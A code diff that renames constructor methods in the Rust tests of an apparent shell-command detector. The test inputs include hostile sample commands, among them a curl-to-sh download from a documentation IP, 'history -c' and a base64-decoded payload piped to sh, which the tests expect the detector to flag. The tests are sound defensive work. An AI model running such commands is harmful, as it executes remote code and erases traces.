@@ -5,9 +5,9 @@ use super::{Commands, Kind};
 /// Returns the kinds of a script, or of the words that ` ;; ` separates.
 fn kinds(line: &str) -> Vec<Kind> {
     let commands = if line.contains(" ;; ") {
-        Commands::of_arguments(line.split(" ;; "))
+        Commands::from_arguments(line.split(" ;; "))
     } else {
-        Commands::of_script(line)
+        Commands::from_script(line)
     };
     commands.signs().into_iter().map(|sign| sign.kind).collect()
 }
@@ -445,14 +445,14 @@ fn reads_joined_words_as_one_script() {
         ),
         ("sh /run.sh", false),
     ] {
-        let signs = Commands::of_line(line).signs();
+        let signs = Commands::from_line(line).signs();
         assert_eq!(!signs.is_empty(), expected, "{line}");
     }
 }
 
 #[test]
 fn most_suspicious_sign_comes_first() {
-    let signs = Commands::of_script("id; curl -s http://203.0.113.9/x | sh; history -c").signs();
+    let signs = Commands::from_script("id; curl -s http://203.0.113.9/x | sh; history -c").signs();
     let texts: Vec<&str> = signs.iter().map(|sign| sign.text.as_str()).collect();
     assert_eq!(texts, ["curl -s http://203.0.113.9/x | sh", "history -c"]);
 }
@@ -460,7 +460,7 @@ fn most_suspicious_sign_comes_first() {
 #[test]
 fn reads_the_end_of_a_long_script() {
     let script = format!("echo {} | base64 -d | sh", "QUJD".repeat(30_000));
-    let signs = Commands::of_arguments(["sh", "-c", &script]).signs();
+    let signs = Commands::from_arguments(["sh", "-c", &script]).signs();
     assert_eq!(
         signs.first().map(|sign| sign.kind),
         Some(Kind::DecodedPayload)
@@ -472,10 +472,10 @@ proptest! {
     #[test]
     fn parses_every_text(text in "(?s)[a-z$()'\"`\\\\|&;<>{}=/ \n\\-]{0,200}|.{0,100}") {
         for commands in [
-            Commands::of_script(&text),
-            Commands::of_line(&text),
-            Commands::of_arguments(["sh", "-c", &text]),
-            Commands::of_arguments(text.split(' ')),
+            Commands::from_script(&text),
+            Commands::from_line(&text),
+            Commands::from_arguments(["sh", "-c", &text]),
+            Commands::from_arguments(text.split(' ')),
         ] {
             for sign in commands.signs() {
                 prop_assert!(sign.text.chars().count() <= 300);
@@ -497,7 +497,7 @@ proptest! {
         for at in places.into_iter().rev() {
             script.insert_str(at, &quotes);
         }
-        prop_assert_eq!(Commands::of_script(&script).signs(), Commands::of_script(plain).signs());
+        prop_assert_eq!(Commands::from_script(&script).signs(), Commands::from_script(plain).signs());
     }
 }
 
@@ -520,7 +520,7 @@ fn hostile_text_is_bounded() {
         "é".repeat(40_000),
     ];
     for text in texts {
-        let signs = Commands::of_script(&text).signs();
+        let signs = Commands::from_script(&text).signs();
         assert!(signs.iter().all(|sign| sign.text.chars().count() <= 300));
     }
 }
